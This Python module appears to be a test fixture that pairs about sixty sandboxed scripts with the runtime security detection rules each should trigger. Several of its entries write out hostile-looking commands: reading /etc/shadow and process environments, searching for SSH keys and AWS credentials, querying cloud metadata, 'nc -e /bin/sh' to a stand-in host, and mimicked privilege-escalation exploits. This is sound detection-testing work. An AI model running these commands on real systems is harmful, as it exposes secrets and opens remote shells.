"""The actions of security-surface.md 6.2: a shell script each, and the rule it must raise.

Scripts run in a root folder that is an overlay of the host's, so that nothing of the host changes. `$T` is a
folder of its own; `named NAME …` runs the interpreter under another name, `code NAME '…'` runs
Python code under it. 198.51.100.7 is an address of the sandbox's network, neither private nor local.
"""

from __future__ import annotations

from dataclasses import dataclass

HOST, CONTAINER, CONFINED = "host", "container", "container without privileges"


@dataclass(frozen=True)
class Action:
    """One action; `place` is where it runs. `missing` says why its rule cannot be raised here."""

    name: str
    rule: str
    script: str
    place: str = HOST
    missing: str = ""


_DAEMON = "import os; os.setgid(1); os.setuid(1); "


_SETNS = "import ctypes; ctypes.CDLL(None).setns(0, 0)"
_UDP = 'import socket; s = socket.socket(2, 2); s.connect(("198.51.100.7", 8192)); s.send(b"x")'
_TCP = "import socket; s = socket.socket(); s.settimeout(1); s.connect_ex"
_ATTACH = (
    "import ctypes, subprocess, os; p = subprocess.Popen(['sleep', '3600']); "
    "c = ctypes.CDLL(None); c.ptrace(16, p.pid, 0, 0); os.waitpid(p.pid, 0x40000000); "
    "c.ptrace(17, p.pid, 0, 0); p.kill()"
)
# Not /bin/true: ModifyBinaryDirs moves that one away for a moment, in the same root folder at the same time.
_MEMFD = (
    "import os; f = os.memfd_create('program'); os.write(f, open('/bin/echo', 'rb').read()); "
    "os.execv(f'/proc/self/fd/{f}', ['program'])"
)
_JAVA = (
    "import socket, threading; a, b = socket.create_server(('127.0.0.1', 0)), socket.socket(); "
    "b.connect(a.getsockname()); a.accept()[0].send(bytes.fromhex('cafebabe0000')); b.recv(16)"
)

ACTIONS: tuple[Action, ...] = (
    Action("ReadSensitiveFileUntrusted", "Read sensitive file untrusted", "cat /etc/shadow"),
    Action(
        "ReadSensitiveFileTrustedAfterStartup",
        "Read sensitive file trusted after startup",
        "code httpd 'import time; time.sleep(5.2); open(\"/etc/shadow\")'",
    ),
    Action(
        "DirectoryTraversalMonitoredFileRead",
        "Directory traversal monitored file read",
        'code start \'import os; os.spawnv(0, "/bin/cat", ["cat", "/etc/../etc/../etc/shadow"])\'',
    ),
    Action(
        "RunShellUntrusted",
        "Run shell untrusted",
        'code httpd \'import subprocess; subprocess.run(["sh", "-c", "ls > /dev/null"])\'',
    ),
    Action(
        "SystemUserInteractive",
        "System user interactive",
        f'ln -s $PY /bin/login; code start \'{_DAEMON}os.execv("/bin/login", ["login", "-V"])\'',
    ),
    Action(
        "SearchPrivateKeysOrPasswords",
        "Search Private Keys or Passwords",
        "find $T -maxdepth 1 -iname id_rsa",
    ),
    Action("FindAwsCredentials", "Find AWS Credentials", "find $T -maxdepth 1 -iname .aws/credentials"),
    Action("ClearLogActivities", "Clear Log Activities", "echo x > $T/syslog"),
    Action("RemoveBulkDataFromDisk", "Remove Bulk Data from Disk", "echo x > $T/x; shred -u $T/x"),
    Action(
        "CreateSymlinkOverSensitiveFiles", "Create Symlink Over Sensitive Files", "ln -s /etc $T/etc_link"
    ),
    Action(
        "CreateHardlinkOverSensitiveFiles",
        "Create Hardlink Over Sensitive Files",
        "ln -v /etc/shadow $T/shadow_link",
    ),
    Action(
        "ExecutionFromDevShm",
        "Execution from /dev/shm",
        "printf '#!/bin/sh\\ntrue\\n' > /dev/shm/x.sh; chmod +x /dev/shm/x.sh; sh -c /dev/shm/x.sh",
    ),
    Action(
        "FilelessExecutionViaMemfdCreate", "Fileless execution via memfd_create", f'code start "{_MEMFD}"'
    ),
    Action("PtraceAttachedToProcess", "PTRACE attached to process", f'code start "{_ATTACH}"'),
    Action(
        "PtraceAntiDebugAttempt",
        "PTRACE anti-debug attempt",
        "code start 'import ctypes; ctypes.CDLL(None).ptrace(0, 0, 0, 0)'",
    ),
    Action(
        "DisallowedSSHConnectionNonStandardPort",
        "Disallowed SSH Connection Non Standard Port",
        f"code ssh '{_TCP}((\"198.51.100.7\", 443))'",
    ),
    Action(
        "LaunchSuspiciousNetworkToolOnHost",
        "Launch Suspicious Network Tool on Host",
        "named nmap -sn 172.17.0.1/32",
    ),
    Action(
        "PacketSocketCreatedInContainer",
        "Packet socket created in container",
        "code start 'import socket; socket.socket(17, 3)'",
        CONTAINER,
    ),
    Action(
        "NetcatRemoteCodeExecutionInContainer",
        "Netcat Remote Code Execution in Container",
        "named nc -e /bin/sh example.com 22",
        CONTAINER,
    ),
    Action(
        "DebugfsLaunchedInPrivilegedContainer",
        "Debugfs Launched in Privileged Container",
        "named debugfs -V",
        CONTAINER,
    ),
    Action(
        "MountLaunchedInPrivilegedContainer",
        "Mount Launched in Privileged Container",
        "mount -o bind $T $T/none",
        CONTAINER,
    ),
    Action(
        "DetectReleaseAgentFileContainerEscapes",
        "Detect release_agent File Container Escapes",
        "echo x > $T/release_agent",
        CONTAINER,
    ),
    Action(
        "DropAndExecuteNewBinaryInContainer",
        "Drop and execute new binary in container",
        "cp /bin/ls /bin/new_program; /bin/new_program $T",
        CONTAINER,
    ),
    Action(
        "AddingSshKeysToAuthorizedKeys",
        "Adding ssh keys to authorized_keys",
        "mkdir -p /root/.ssh; cp /etc/hostname /root/.ssh/authorized_keys",
    ),
    Action(
        "ReadSshInformation",
        "Read ssh information",
        "mkdir -p /root/.ssh; cp /etc/hostname /root/.ssh/known; cat /root/.ssh/known",
    ),
    Action("ModifyShellConfigurationFile", "Modify Shell Configuration File", "cp /etc/hostname $T/.bashrc"),
    Action(
        "ReadShellConfigurationFile",
        "Read Shell Configuration File",
        "cp /etc/hostname $T/.bashrc; cat $T/.bashrc",
    ),
    Action("ScheduleCronJobs", "Schedule Cron Jobs", "named crontab -l"),
    Action(
        "DbProgramSpawnedProcess",
        "DB program spawned process",
        "code mysqld 'import subprocess; subprocess.run([\"ls\"])'",
    ),
    Action("ChangeThreadNamespace", "Change thread namespace", f"code start '{_SETNS}'"),
    Action(
        "ChangeNamespacePrivilegesViaUnshare",
        "Change namespace privileges via unshare",
        "unshare --user true",
        CONFINED,
    ),
    Action("SystemProcsNetworkActivity", "System procs network activity", f"code sha1sum '{_UDP}'"),
    Action(
        "ProgramRunWithDisallowedHttpProxyEnv",
        "Program run with disallowed http proxy env",
        "HTTP_PROXY=http://127.0.0.1:9 curl --version",
    ),
    Action("UnexpectedUDPTraffic", "Unexpected UDP Traffic", f"code nc '{_UDP}'"),
    Action("NonSudoSetuid", "Non sudo setuid", f"code start '{_DAEMON}os.setuid(0)'"),
    Action("UserMgmtBinaries", "User mgmt binaries", "named vipw -V"),
    Action("CreateFilesBelowDev", "Create files below dev", "cp /etc/hostname /dev/created"),
    Action(
        "ContactEC2InstanceMetadataServiceFromContainer",
        "Contact EC2 Instance Metadata Service From Container",
        f"code nc '{_TCP}((\"169.254.169.254\", 80))'",
        CONTAINER,
    ),
    Action(
        "LaunchPackageManagementProcessInContainer",
        "Launch Package Management Process in Container",
        "apt-get --version",
        CONTAINER,
    ),
    Action(
        "LaunchSuspiciousNetworkToolInContainer",
        "Launch Suspicious Network Tool in Container",
        "named nmap -sn 172.17.0.1/32",
        CONTAINER,
    ),
    Action(
        "LaunchRemoteFileCopyToolsInContainer",
        "Launch Remote File Copy Tools in Container",
        "named scp a b",
        CONTAINER,
    ),
    Action(
        "LaunchIngressRemoteFileCopyToolsInContainer",
        "Launch Ingress Remote File Copy Tools in Container",
        "named wget -V",
        CONTAINER,
    ),
    Action(
        "ReadEnvironmentVariableFromProcFiles",
        "Read environment variable from /proc files",
        "cat /proc/self/environ",
        CONTAINER,
    ),
    Action(
        "DeleteOrRenameShellHistory",
        "Delete or rename shell history",
        "echo x > $T/.bash_history; rm $T/.bash_history",
    ),
    Action("SetSetuidOrSetgidBit", "Set Setuid or Setgid bit", "echo x > $T/x; chmod u+s $T/x"),
    Action(
        "PotentialLocalPrivilegeEscalationViaEnvironmentVariablesMisuse",
        "Potential Local Privilege Escalation via Environment Variables Misuse",
        "GLIBC_TUNABLES=glibc.malloc.mxfast=0 id",
    ),
    Action("WriteBelowBinaryDir", "Write below binary dir", "cp /etc/hostname /bin/created; rm /bin/created"),
    Action("WriteBelowEtc", "Write below etc", "cp /etc/hostname /etc/created; rm /etc/created"),
    Action("WriteBelowMonitoredDir", "Write below monitored dir", "cp /etc/hostname /lib/created"),
    Action("WriteBelowRoot", "Write below root", "cp /etc/hostname /root/created; cp /etc/hostname /created"),
    Action(
        "WriteBelowRpmDatabase",
        "Write below rpm database",
        "mkdir -p /var/lib/rpm; cp /etc/hostname /var/lib/rpm/created",
    ),
    Action(
        "ModifyBinaryDirs", "Modify binary dirs", "mv /bin/true /bin/true.moved; mv /bin/true.moved /bin/true"
    ),
    Action("MkdirBinaryDirs", "Mkdir binary dirs", "mkdir /bin/created_directory"),
    Action("CreateHiddenFilesOrDirectories", "Create Hidden Files or Directories", "mkdir $T/.hidden"),
    Action(
        "DetectCryptoMinersUsingTheStratumProtocol",
        "Detect crypto miners using the Stratum protocol",
        '/bin/echo "-o stratum+tcp"',
    ),
    Action(
        "InterpretedProcsInboundNetworkActivity",
        "Interpreted procs inbound network activity",
        "code lua 'import socket; socket.create_server((\"198.51.100.7\", 0))'",
    ),
    Action(
        "InterpretedProcsOutboundNetworkActivity",
        "Interpreted procs outbound network activity",
        f"code lua '{_TCP}((\"198.51.100.7\", 80))'",
    ),
    Action(
        "KubernetesClientToolLaunchedInContainer",
        "Kubernetes Client Tool Launched in Container",
        "named kubectl get",
        CONTAINER,
    ),
    Action(
        "ContainerDriftDetectedChmod",
        "Container Drift Detected (chmod)",
        "echo x > $T/x; chmod +x $T/x",
        CONTAINER,
    ),
    Action(
        "ContainerDriftDetectedOpenCreate",
        "Container Drift Detected (open+create)",
        "code start 'import os, sys; os.open(sys.argv[1], 65, 0o755)' $T/x",
        CONTAINER,
    ),
    Action(
        "ModifyContainerEntrypoint",
        "Modify Container Entrypoint",
        "cp /etc/hostname /proc/self/fd/1",
        CONTAINER,
    ),
    Action(
        "DecodingPayloadInContainer",
        "Decoding Payload in Container",
        "echo eA== | base64 -d",
        CONTAINER,
    ),
    Action("JavaProcessClassFileDownload", "Java Process Class File Download", f'code java "{_JAVA}"', HOST),
    Action(
        "SudoPotentialPrivilegeEscalation",
        "Sudo Potential Privilege Escalation",
        "ln -s $PY /bin/sudoedit; code start 'import os; os.setuid(1); "
        'os.execv("/bin/sudoedit", ["sudoedit", "-u", "daemon", "-s", "ls" + chr(92)])\'',
    ),
    Action(
        "PolkitLocalPrivilegeEscalationVulnerabilityCVE20214034",
        "Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034)",
        'ln -s $PY /bin/pkexec; code start \'import os; os.setuid(1); os.execv("/bin/pkexec", ["pkexec"])\' '
        "</dev/null",
    ),
    Action(
        "UnprivilegedDelegationOfPageFaultsHandlingToAUserspaceProcess",
        "Unprivileged Delegation of Page Faults Handling to a Userspace Process",
        "code start 'import os, ctypes; os.setuid(1); ctypes.CDLL(None).syscall(323, 1)'",
    ),
)
